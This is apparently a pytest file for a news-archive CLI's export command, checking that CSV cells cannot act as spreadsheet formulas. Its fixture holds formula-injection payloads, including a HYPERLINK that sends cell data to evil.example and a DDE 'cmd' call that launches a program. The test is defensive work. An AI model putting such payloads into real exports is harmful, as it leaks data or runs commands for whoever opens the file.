"""`tinso export`: what a spreadsheet and a program get, and that no cell of it is run."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from archive.cli import main
from archive.store import Archive
from tests.archive_samples import ORIGIN, article, capture

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Đấu giá")'


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("data")
    pages = (
        article("https://sotttt.saomai.gov.vn/tin/1"),
        article(
            "https://sotttt.saomai.gov.vn/tin/2", headline=FORMULA, body="-2+3+cmd|' /C calc'!A0", published_at=None,
            published_precision=None, byline="@SUM(1)", lead="\t=1", authors=("+84 912", "Bình"),
        ),
    )  # fmt: skip
    with Archive.open(place) as archive, archive.transaction():
        for item in pages:
            archive.save(item, capture(item.url), ORIGIN)
    return place


def export(folder: Path, *words: str) -> Result:
    return CliRunner().invoke(main, ["--archive", str(folder), "export", *words])


def read_csv(result: Result) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"), newline="")))


def test_a_row_an_article_with_its_lists_joined(folder: Path) -> None:
    result = export(folder)
    assert result.exit_code == 0
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbf"), "Excel takes Vietnamese for Latin-1 without it"
    first, _ = read_csv(result)
    assert first["headline"] == article().headline
    assert first["body"] == article().body
    assert first["authors"] == "Nguyễn Hiền"
    assert first["tags"] == "đào tạo | kỹ năng số"
    assert first["attachments"] == "https://sotttt.saomai.gov.vn/tep/kh.pdf"


def test_no_cell_is_a_formula(folder: Path) -> None:
    for row in read_csv(export(folder)):
        assert not [cell for cell in row.values() if cell[:1] in tuple("=+-@\t\r")]
    _, bad = read_csv(export(folder, "--as-it-is"))
    assert bad["headline"] == FORMULA


def test_json_lines_are_the_articles_as_they_are(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert export(folder, "--format", "jsonl", "-o", str(out)).exit_code == 0
    first, second = (json.loads(line) for line in out.read_text("utf-8").splitlines())
    assert first["published_at"] == "2024-03-05T08:30:00+07:00"
    assert second["headline"] == FORMULA
    assert second["authors"] == ["+84 912", "Bình"]


def test_a_choice_and_an_empty_one(folder: Path) -> None:
    assert len(read_csv(export(folder, "--since", "2024-03"))) == 1
    assert export(folder, "--portal", "khong-co").exit_code == 1
    assert export(folder, "--since", "mai").exit_code == 2


def test_a_place_that_cannot_be_written_is_one_line(folder: Path, tmp_path: Path) -> None:
    result = export(folder, "-o", str(tmp_path / "none" / "out.csv"))
    assert result.exit_code == 3
    assert len(result.stderr.strip().splitlines()) == 1
